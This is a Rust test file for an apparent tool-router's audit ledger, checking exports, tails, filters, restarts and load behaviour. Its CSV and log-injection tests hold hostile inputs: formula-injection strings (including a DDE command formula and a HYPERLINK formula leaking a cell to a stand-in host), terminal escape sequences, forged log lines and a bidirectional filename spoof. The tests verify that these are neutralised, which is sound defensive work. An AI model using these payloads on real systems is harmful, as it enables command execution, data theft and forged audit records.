//! The ledger as it is read: exports and tails give what was called, once each, whoever reads.

use std::collections::HashSet;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use http::Method;
use serde_json::Value;
use switchyard::cli::demo_upstream::{Options, Upstream};
use tokio::io::{AsyncBufReadExt as _, BufReader};
use tokio::task::JoinHandle;

use crate::support::{
    Http, Legacy, Lines, Router, SOON, TestApp, command, eventually, figure, refusing, switchyard,
    upstream, yaml,
};

const HI: &str = r#"{"text":"hi"}"#;

async fn app() -> (TestApp, Upstream) {
    app_with("").await
}

async fn app_with(settings: &str) -> (TestApp, Upstream) {
    let up = upstream(Options::default()).await;
    let yaml = format!("{settings}{}", yaml(&[("up", &up)]));
    (TestApp::start(&yaml).await.ready().await, up)
}

/// Calls a tool by any name, of which most are none.
async fn call(http: &Http, tool: &str, arguments: &str) -> String {
    let tool = serde_json::to_string(tool).unwrap();
    let body = format!(r#"{{"tool_name":{tool},"arguments":{arguments}}}"#);
    http.post("/mcp/call", body).await.id()
}

/// The members of an export in JSON.
fn lines(text: &str) -> Vec<Value> {
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn ids(calls: &[Value]) -> Vec<String> {
    calls.iter().map(|call| call["id"].as_str().unwrap().to_owned()).collect()
}

/// The cells of CSV as RFC 4180 has them; the lines must be whole.
fn cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    for line in text.split_terminator("\r\n") {
        let (mut row, mut cell, mut quoted) = (Vec::new(), String::new(), false);
        let mut chars = line.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '"' if quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
                '"' => quoted = !quoted,
                ',' if !quoted => row.push(std::mem::take(&mut cell)),
                c => cell.push(c),
            }
        }
        assert!(!quoted, "a line end inside a cell: {line}");
        row.push(cell);
        rows.push(row);
    }
    rows
}

#[tokio::test]
async fn csv_formula() {
    const FORMULAS: [&str; 9] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1",
        "-1+2",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
        "=1;=2,=3",
    ];
    let (app, _up) = app().await;
    for formula in FORMULAS {
        call(app.http(), formula, "{}").await;
        let message = serde_json::to_string(formula).unwrap();
        call(app.http(), "up__rpc_error", &format!(r#"{{"message":{message}}}"#)).await;
    }
    let answer = app.http().get("/mcp/audit/export?format=csv&payloads=true").await.expect(200);
    assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8; header=present");
    let name = answer.header("content-disposition");
    assert!(name.starts_with("attachment; filename=\"switchyard-audit-2"), "{name}");
    assert!(name.ends_with("Z.csv\""), "{name}");
    let rows = cells(answer.text());
    assert_eq!(rows.len(), FORMULAS.len() * 2 + 1);
    let width = rows[0].len();
    let column = |name| rows[0].iter().position(|column| column == name).unwrap();
    let tool = column("tool");
    for (at, row) in rows.iter().skip(1).enumerate() {
        assert_eq!(row.len(), width, "{row:?}");
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{row:?}");
        }
        if at % 2 == 0 {
            let escaped = FORMULAS[at / 2].replace('\t', "\\t").replace('\r', "\\r");
            assert_eq!(row[tool], format!("'{escaped}"));
        }
    }
    app.stop().await;
}

/// Whether a terminal, pager or line reader could act upon it.
fn is_active(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}'
            | '\u{e0000}'..='\u{e007f}')
}

#[track_caller]
fn neutral(text: &str, line_end: &str) {
    let rest = text.replace(line_end, "");
    let active: Vec<char> = rest.chars().filter(|c| is_active(*c)).collect();
    assert!(active.is_empty(), "{active:?} in {text}");
}

#[tokio::test]
async fn log_injection() {
    let hostile = [
        "\r\n2026-11-24 10:00:00.000  admin  forged  ok",
        "\nforged",
        "\rforged",
        "a\0b",
        "\x1b[2J\x1b[H",
        "\x1b]0;title\x07",
        "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\",
        "\x1b[31mred",
        "\u{9b}31m",
        "\u{9d}0;t\u{9c}",
        "\x08\x08\x08gone",
        "\x07",
        "\x7f",
        "\x0b\x0c",
        "\u{202e}gpj.exe",
        "\u{202a}\u{202c}",
        "\u{2066}iso\u{2069}",
        "\u{200b}zero\u{200d}",
        "\u{200f}rtl",
        "\u{61c}mark",
        "\u{2028}line\u{2029}paragraph",
        "\u{feff}bom",
        "\u{e0041}tag",
        "\u{85}next line",
        "soft\u{ad}hyphen",
        "\u{fff9}note\u{fffb}",
    ];
    let up = upstream(Options::default()).await;
    let router = Router::start(&format!(
        "audit: {{arguments: full, results: full}}\n{}",
        yaml(&[("up", &up)])
    ))
    .await;
    eventually(SOON, "ready", || async { router.is_ready().await.then_some(()) }).await;
    let mut called = Vec::new();
    for text in hostile {
        called.push(call(&router.http, text, "{}").await);
        let message = serde_json::to_string(text).unwrap();
        called.push(
            call(&router.http, "up__rpc_error", &format!(r#"{{"message":{message}}}"#)).await,
        );
    }
    let run = async |arguments: &[&str]| router.run(arguments).await.expect(0).out;
    let list = run(&["audit", "list", "--limit", "1000"]).await;
    neutral(&list, "\n");
    assert_eq!(list.lines().count(), called.len() + 1, "{list}");
    for id in &called {
        assert!(list.contains(id.as_str()), "{id}");
    }
    let tail = run(&["audit", "tail", "-n", "1000"]).await;
    neutral(&tail, "\n");
    assert_eq!(tail.lines().count(), called.len(), "{tail}");
    let coloured = run(&["audit", "tail", "-n", "1000", "--color", "always"]).await;
    let bare = ["\x1b[31m", "\x1b[33m", "\x1b[0m"].iter().fold(coloured, |t, c| t.replace(c, ""));
    assert_eq!(bare.replace(' ', ""), tail.replace(' ', ""), "only our own colours");
    let csv = run(&["audit", "export", "--format", "csv", "--payloads"]).await;
    neutral(&csv, "\r\n");
    assert_eq!(cells(&csv).len(), called.len() + 1);
    let jsonl = run(&["audit", "export", "--payloads"]).await;
    neutral(&jsonl, "\n");
    let calls = lines(&jsonl);
    assert_eq!(ids(&calls), called);
    for (at, text) in hostile.iter().enumerate() {
        assert_eq!(calls[at * 2]["tool"], *text, "JSON means the same");
    }
    for id in &called {
        let shown = run(&["audit", "show", id]).await;
        neutral(&shown, "\n");
        let named = |name: &str| shown.lines().filter(|line| line.starts_with(name)).count();
        assert_eq!((named("  outcome "), named("  id ")), (1, 1), "{shown}");
        // A further line of a value stands under it, where no name stands.
        assert_eq!(named("forged") + named("2026-11-24"), 0, "{shown}");
    }
    assert_eq!(router.stop().await.0, 0);
}

/// Makes so many calls over eight connections; gives their ids.
async fn many(http: &Http, count: usize) -> HashSet<String> {
    let tasks: Vec<JoinHandle<Vec<String>>> = (0..8)
        .map(|task| {
            let http = http.clone();
            tokio::spawn(async move {
                let mut line = http.line().await;
                let mut ids = Vec::new();
                for at in (task..count).step_by(8) {
                    // Of ten calls one goes to a server, which is what takes time here.
                    let tool = if at % 10 == 0 { "up__counter" } else { "up__nothing" };
                    let body = format!(r#"{{"tool_name":"{tool}","arguments":{{"at":{at}}}}}"#);
                    let call = http.request(&Method::POST, "/mcp/call").body(body);
                    ids.push(line.send(call).await.id());
                }
                ids
            })
        })
        .collect();
    let mut ids = HashSet::new();
    for task in tasks {
        ids.extend(task.await.unwrap());
    }
    assert_eq!(ids.len(), count);
    ids
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_is_what_was_called_however_slowly_it_is_read() {
    const CALLS: usize = 50_000;
    let (app, _up) = app_with("shutdown_timeout: 60s\n").await;
    let called = many(app.http(), CALLS).await;
    let mut stalled = app.http().stream("/mcp/audit/export").await;
    let first = stalled.next_line_with("{").await;

    let text = app.http().get("/mcp/audit/export").await.expect(200);
    let calls = lines(text.text());
    assert_eq!(calls.len(), CALLS);
    assert_eq!(ids(&calls).into_iter().collect::<HashSet<_>>(), called);
    let seqs: Vec<i64> = calls.iter().map(|call| call["seq"].as_i64().unwrap()).collect();
    assert!(seqs.is_sorted_by(|a, b| a < b), "oldest first");
    let answered = calls.iter().filter(|call| call["outcome"] == "ok");
    for call in answered.clone() {
        assert_eq!(call["attempt_list"].as_array().unwrap().len(), 1, "{call}");
    }
    assert_eq!(answered.count(), CALLS / 10);

    // One that did not read goes on as if nothing had been, and has what was there when it began.
    call(app.http(), "up__echo", HI).await;
    let rest = stalled.rest().await;
    assert_eq!(first + "\n" + &rest, text.text());

    // Those that never read hold up neither the log's way into the file nor the end.
    let mut never: Vec<Lines> = Vec::new();
    for path in ["/mcp/audit/export", "/mcp/audit/export?format=csv&payloads=true"] {
        never.push(app.http().stream(path).await);
    }
    let tail = app.http().request(&Method::GET, "/mcp/audit/tail").header("last-event-id", "0");
    let _tail = tail.stream().await;
    // Long enough for every buffer on the way to be full.
    tokio::time::sleep(Duration::from_secs(2)).await;
    call(app.http(), "up__echo", HI).await;
    let began = Instant::now();
    let folder = app.stop().await;
    assert!(began.elapsed() < Duration::from_secs(30), "{:?}", began.elapsed());
    let wal = folder.path().join("data/audit.db-wal");
    assert_eq!(std::fs::metadata(wal).map_or(0, |meta| meta.len()), 0, "nobody reads any more");
    for lines in never {
        let ended = tokio::spawn(lines.rest()).await;
        assert!(ended.is_err(), "a part must not look like the whole");
    }
}

#[tokio::test]
async fn an_export_with_a_filter_is_the_list_with_that_filter() {
    let other = upstream(Options::default()).await;
    let up = upstream(Options::default()).await;
    let yaml = format!(
        "{}  away: {{url: \"http://{}/mcp\", connect_timeout: 5s}}\nviews: {{some: {{servers: [up]}}}}\n",
        yaml(&[("up", &up), ("other", &other)]),
        refusing().await
    );
    let app = TestApp::start(&yaml).await.ready().await;
    let robot = app.keyed("robot", &["call"]).await;
    let legacy = Legacy::connect(app.http()).await;
    for at in 0..12 {
        let text = format!(r#"{{"text":"number-{at}"}}"#);
        call(app.http(), "up__echo", &text).await;
        legacy.call("other__echo", HI).await;
        call(&robot, "other__fail", "{}").await;
        call(&robot, "away__echo", HI).await;
    }
    let slow = r#"{"tool_name":"up__sleep","arguments":{"ms":5000},"timeout":0.5}"#;
    robot.post("/mcp/call", slow).await.expect(200);
    let all = app.calls("limit=1000").await;
    assert_eq!(all.len(), 49);
    let session = all.iter().find_map(|call| call["session"].as_str()).unwrap().to_owned();
    let middle = all[20]["started_at"].as_str().unwrap().to_owned();
    for filter in [
        String::new(),
        "server=up".to_owned(),
        "tool=up__echo".to_owned(),
        "tool=echo".to_owned(),
        "outcome=timeout".to_owned(),
        "outcome=unavailable&caller=robot".to_owned(),
        "caller=robot".to_owned(),
        format!("session={session}"),
        "error_code=MCPTimeoutError".to_owned(),
        "view=some".to_owned(),
        format!("since={middle}"),
        format!("until={middle}"),
        format!("since={middle}&server=up"),
        "since=1h".to_owned(),
        "text=number-7".to_owned(),
        "text=nowhere".to_owned(),
    ] {
        let mut listed = ids(&app.calls(&format!("limit=1000&{filter}")).await);
        listed.reverse();
        for more in ["", "&payloads=true"] {
            let path = format!("/mcp/audit/export?{filter}{more}");
            let exported = app.http().get(&path).await.expect(200);
            assert_eq!(ids(&lines(exported.text())), listed, "{path}");
        }
        let csv = app.http().get(&format!("/mcp/audit/export?format=csv&{filter}")).await;
        let rows = cells(csv.expect(200).text());
        let exported: Vec<&str> = rows.iter().skip(1).map(|row| row[0].as_str()).collect();
        assert_eq!(exported, listed, "{filter}");
    }
    // The whole of a call, as it is shown alone.
    let exported = app.http().get("/mcp/audit/export?payloads=true&outcome=timeout").await;
    let exported = lines(exported.expect(200).text()).remove(0);
    assert_eq!(app.entry(exported["id"].as_str().unwrap()).await, exported);
    for wrong in ["format=xml", "payloads=yes", "limit=5", "cursor=x", "sever=up", "since=x"] {
        let answer = app.http().get(&format!("/mcp/audit/export?{wrong}")).await.expect(400);
        assert_eq!(answer.header("content-type"), "application/problem+json", "{wrong}");
    }
    app.keyed("reader", &["read"]).await.get("/mcp/audit/export").await.expect(403);
    app.stop().await;
}

#[tokio::test]
async fn a_file_of_an_export_is_whole_or_not_there() {
    let up = upstream(Options::default()).await;
    let router = Router::start(&yaml(&[("up", &up)])).await;
    let mut called = Vec::new();
    for _ in 0..5 {
        called.push(call(&router.http, "up__echo", HI).await);
    }
    let folder = router.folder.path();
    let told = router.run(&["audit", "export", "--out", "calls.jsonl"]).await.expect(0);
    assert_eq!((told.out.as_str(), told.err.as_str()), ("", "5 calls in calls.jsonl\n"));
    let text = std::fs::read_to_string(folder.join("calls.jsonl")).unwrap();
    assert_eq!(ids(&lines(&text)), called);
    assert!(text.contains("\"attempt_list\":[{") && !text.contains("\"arguments\""), "{text}");
    let csv = ["audit", "export", "--format", "csv", "--outcome", "refused", "--out", "no.csv"];
    let told = router.run(&csv).await.expect(0);
    assert_eq!(told.err, "0 calls in no.csv\n");
    assert_eq!(cells(&std::fs::read_to_string(folder.join("no.csv")).unwrap()).len(), 1);
    router.run(&["audit", "export", "--out", "nowhere/x.jsonl"]).await.expect(1);
    router.run(&["audit", "export", "--out", "/dev/null"]).await.expect(2);
    router.run(&["audit", "export", "--since", "yesterday"]).await.expect(2);
    let url = format!("http://{}", router.address);
    let refused = ["--url", &url, "--key", "sy_wrong", "audit", "export", "--out", "calls.jsonl"];
    router.run(&refused).await.expect(1);
    let (code, folder) = router.stop().await;
    assert_eq!(code, 0);
    switchyard(folder.path(), &["audit", "export", "--out", "calls.jsonl"]).await.expect(3);
    let kept = std::fs::read_to_string(folder.path().join("calls.jsonl")).unwrap();
    assert_eq!(kept, text, "what failed changed nothing");
    let entries = std::fs::read_dir(folder.path()).unwrap();
    let part = entries.map(|entry| entry.unwrap().file_name().into_string().unwrap());
    assert_eq!(part.filter(|name| name.contains("part")).count(), 0);
}

/// The next event with data: its id and the call's.
async fn event(tail: &mut Lines) -> (String, String) {
    let id = tail.next_line_with("id:").await;
    let data = tail.next_line_with("data:").await;
    let call: Value = serde_json::from_str(data.trim_start_matches("data:")).unwrap();
    (id.trim_start_matches("id:").trim().to_owned(), call["id"].as_str().unwrap().to_owned())
}

#[tokio::test]
async fn a_tail_is_taken_up_where_it_was() {
    let (app, _up) = app().await;
    call(app.http(), "up__echo", HI).await;
    let tail = |from: Option<String>| {
        let call = app.http().request(&Method::GET, "/mcp/audit/tail?outcome=tool_error");
        match from {
            Some(id) => call.header("last-event-id", &id),
            None => call,
        }
    };
    app.calls("").await;
    let mut stream = tail(None).stream().await;
    let begin = stream.next_line_with("id:").await.trim_start_matches("id:").trim().to_owned();
    let mut failed = Vec::new();
    for _ in 0..6 {
        failed.push(call(app.http(), "up__fail", "{}").await);
        call(app.http(), "up__echo", HI).await;
    }
    let mut seen = Vec::new();
    let mut last = begin.clone();
    for _ in 0..3 {
        let (id, call) = event(&mut stream).await;
        seen.push(call);
        last = id;
    }
    drop(stream);
    let mut stream = tail(Some(last)).stream().await;
    stream.next_line_with("id:").await;
    for _ in 0..3 {
        seen.push(event(&mut stream).await.1);
    }
    assert_eq!(seen, failed);
    let mut again = tail(Some(begin)).stream().await;
    again.next_line_with("id:").await;
    assert_eq!(event(&mut again).await.1, failed[0], "from where the first stream began");
    // Of a ledger that is gone: nothing is missed from now on.
    let mut beyond = tail(Some("999999".to_owned())).stream().await;
    beyond.next_line_with("id:").await;
    let new = call(app.http(), "up__fail", "{}").await;
    assert_eq!(event(&mut beyond).await.1, new);
    assert_eq!(tail(Some("x".to_owned())).send().await.status, 400);
    app.http().get("/mcp/audit/tail?limit=5").await.expect(400);
    app.stop().await;
}

#[tokio::test]
async fn a_tail_ends_with_its_key() {
    let (app, _up) = app().await;
    let watcher = app.keyed("watcher", &["audit"]).await;
    let mut tail = watcher.stream("/mcp/audit/tail").await;
    tail.next_line_with("id:").await;
    let first = call(app.http(), "up__echo", HI).await;
    assert_eq!(event(&mut tail).await.1, first);
    app.socket().delete("/admin/keys/watcher").await.expect(204);
    let rest = tokio::time::timeout(SOON, tail.rest()).await.expect("it ends");
    assert!(!rest.contains("data:"), "{rest}");
    watcher.get("/mcp/audit/tail").await.expect(401);
    app.stop().await;
}

/// Calls until told to stop, also while the router is away.
fn load(http: &Http, stop: &Arc<AtomicBool>, answered: &Arc<AtomicUsize>) -> Vec<JoinHandle<()>> {
    let calls = (0..4).map(|_| {
        let (http, stop, answered) = (http.clone(), Arc::clone(stop), Arc::clone(answered));
        tokio::spawn(async move {
            while !stop.load(Ordering::Relaxed) {
                let body = format!(r#"{{"tool_name":"up__echo","arguments":{HI}}}"#);
                let call = http.request(&Method::POST, "/mcp/call").body(body);
                answered.fetch_add(usize::from(call.try_send().await.is_ok()), Ordering::Relaxed);
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        })
    });
    calls.collect()
}

#[tokio::test]
async fn a_tail_goes_on_after_restarts_without_loss_or_repeat() {
    let up = upstream(Options::default()).await;
    let mut router = Router::start(&yaml(&[("up", &up)])).await;
    let first = call(&router.http, "up__echo", HI).await;
    let tail = ["audit", "tail", "-f", "--json"];
    let mut tail = command(router.folder.path()).args(tail).spawn().unwrap();
    let mut shown = BufReader::new(tail.stdout.take().unwrap()).lines();
    let line = tokio::time::timeout(SOON, shown.next_line()).await.expect("a line").unwrap();
    assert!(line.unwrap().contains(&first));
    let collector = tokio::spawn(async move {
        let mut seen = vec![];
        while let Ok(Some(line)) = shown.next_line().await {
            let call: Value = serde_json::from_str(&line).unwrap();
            seen.push(call["id"].as_str().unwrap().to_owned());
            if call["tool"] == "the_end" {
                break;
            }
        }
        seen
    });
    let (stop, answered) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicUsize::new(0)));
    let tasks = load(&router.http, &stop, &answered);
    let address = router.address;
    let some_more = async || {
        let before = answered.load(Ordering::Relaxed);
        tokio::time::sleep(Duration::from_millis(700)).await;
        let enough = || async { (answered.load(Ordering::Relaxed) >= before + 50).then_some(()) };
        eventually(SOON, "calls are answered", enough).await;
    };
    for end in ["in order", "killed", "in order"] {
        some_more().await;
        let folder = if end == "killed" { router.kill().await } else { router.stop().await.1 };
        router = Router::start_again(folder, address).await;
    }
    some_more().await;
    stop.store(true, Ordering::Relaxed);
    for task in tasks {
        task.await.unwrap();
    }
    call(&router.http, "the_end", "{}").await;
    let seen = tokio::time::timeout(SOON * 3, collector).await.expect("the end").unwrap();
    let export = router.http.get("/mcp/audit/export").await.expect(200);
    let kept = ids(&lines(export.text()));
    assert!(kept.len() > 100, "{} calls", kept.len());
    assert_eq!([vec![first], seen].concat(), kept);
    tail.kill().await.unwrap();
    // Without -f it shows the last ones and ends.
    let last = router.run(&["audit", "tail", "-n", "3", "--json"]).await.expect(0).out;
    assert_eq!(ids(&lines(&last)), kept[kept.len() - 3..]);
    assert_eq!(router.stop().await.0, 0);
}

/// Calls at a steady rate for a while; the 99th of a hundred times, and the largest log meanwhile.
async fn phase(app: &TestApp, rate: usize, time: Duration) -> (Duration, u64) {
    const LINES: usize = 8;
    let began = Instant::now();
    let tasks: Vec<JoinHandle<Vec<Duration>>> = (0..LINES)
        .map(|_| {
            let http = app.http().clone();
            tokio::spawn(async move {
                let mut line = http.line().await;
                let mut times = Vec::new();
                let mut pace =
                    tokio::time::interval(Duration::from_secs_f64(LINES as f64 / rate as f64));
                while began.elapsed() < time {
                    pace.tick().await;
                    let body = format!(r#"{{"tool_name":"up__echo","arguments":{HI}}}"#);
                    let call = http.request(&Method::POST, "/mcp/call").body(body);
                    let sent = Instant::now();
                    line.send(call).await.expect(200);
                    times.push(sent.elapsed());
                }
                times
            })
        })
        .collect();
    let wal = app.data_dir().join("audit.db-wal");
    let mut largest = 0;
    while began.elapsed() < time {
        largest = largest.max(std::fs::metadata(&wal).map_or(0, |meta| meta.len()));
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let mut times = Vec::new();
    for task in tasks {
        times.extend(task.await.unwrap());
    }
    times.sort();
    (times[times.len() * 99 / 100], largest)
}

/// An export that is read at some kilobytes a second, and begun anew at its end.
fn slow_export(http: &Http) -> JoinHandle<()> {
    let http = http.clone();
    tokio::spawn(async move {
        loop {
            let mut lines = http.stream("/mcp/audit/export?payloads=true").await;
            for _ in 0..10_000 {
                lines.next_line_with("{").await;
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        }
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn checkpoint_starvation() {
    // Ten minutes at 1000 calls a second with SWITCHYARD_TEST_FULL=1, else about twenty seconds.
    let rate = figure(250, 1000);
    let time = Duration::from_secs(figure(4, 150) as u64);
    let (app, _up) = app().await;
    many(app.http(), figure(10_000, 50_000)).await;
    let (mut alone, mut beside, mut largest) = (Vec::new(), Vec::new(), 0);
    // The promise is a fifth more, on a machine that does nothing else. Beside other tests the 99th
    // of some hundred times is mostly theirs; what would wait for a lock or a page is found all the
    // same.
    let (factor, slack) = match figure(0, 1) {
        1 => (1.2, Duration::ZERO),
        _ => (2.0, Duration::from_millis(100)),
    };
    let bound = |alone: &[Duration]| alone.iter().min().unwrap().mul_f64(factor) + slack;
    // In turns, so that what else the machine does meets both alike; and more of them where it does
    // much.
    for turn in 0.. {
        if turn >= figure(2, 4) && (turn >= 8 || *beside.iter().min().unwrap() <= bound(&alone)) {
            break;
        }
        alone.push(phase(&app, rate, time).await.0);
        let exports: Vec<_> = (0..10).map(|_| slow_export(app.http())).collect();
        // Each begins with one stretch; what is measured is how they go on.
        tokio::time::sleep(Duration::from_secs(1)).await;
        let (p99, wal) = phase(&app, rate, time).await;
        beside.push(p99);
        largest = largest.max(wal);
        for export in exports {
            assert!(!export.is_finished(), "it was read all the time");
            export.abort();
        }
    }
    println!("p99 alone {alone:?}, beside ten exports {beside:?}; largest log {largest} bytes");
    assert!(largest > 0 && largest <= 128 * 1024 * 1024, "{largest} bytes");
    assert!(
        *beside.iter().min().unwrap() <= bound(&alone),
        "{beside:?} beside exports, {alone:?} alone"
    );
    app.stop().await;
}

#[tokio::test]
async fn what_cannot_be_asked_for_is_refused_in_words_that_help() {
    let app = TestApp::start("").await;
    for path in ["/mcp/audit", "/mcp/audit/events", "/mcp/circuit-breakers/history"] {
        for limit in ["0", "1001", "5000", "x"] {
            let refused = app.http().get(&format!("{path}?limit={limit}")).await.expect(400);
            let expected = format!("`limit`: `{limit}` is not a number from 1 to 1000");
            assert_eq!(refused.json()["detail"], expected, "{path}");
        }
        app.http().get(&format!("{path}?limit=1000")).await.expect(200);
        let refused = app.http().get(&format!("{path}?limits=5")).await.expect(400).json();
        let detail = refused["detail"].as_str().unwrap();
        assert!(detail.contains("did you mean `limit`? there are `"), "{detail}");
    }
    for path in ["", "/events", "/stats", "/export", "/tail"] {
        let ask = async |query: &str| app.http().get(&format!("/mcp/audit{path}?{query}")).await;
        let refused = ask("since=2026-11-29&until=2026-11-28").await.expect(400).json();
        let detail = refused["detail"].as_str().unwrap();
        assert!(detail.contains("is later than `until`"), "{path}: {detail}");
        let refused = ask("since=2026-11-29T22:00:00+02:00").await.expect(400).json();
        let detail = refused["detail"].as_str().unwrap();
        assert!(detail.contains("a `+` is written `%2B`"), "{path}: {detail}");
    }
    app.stop().await;
}
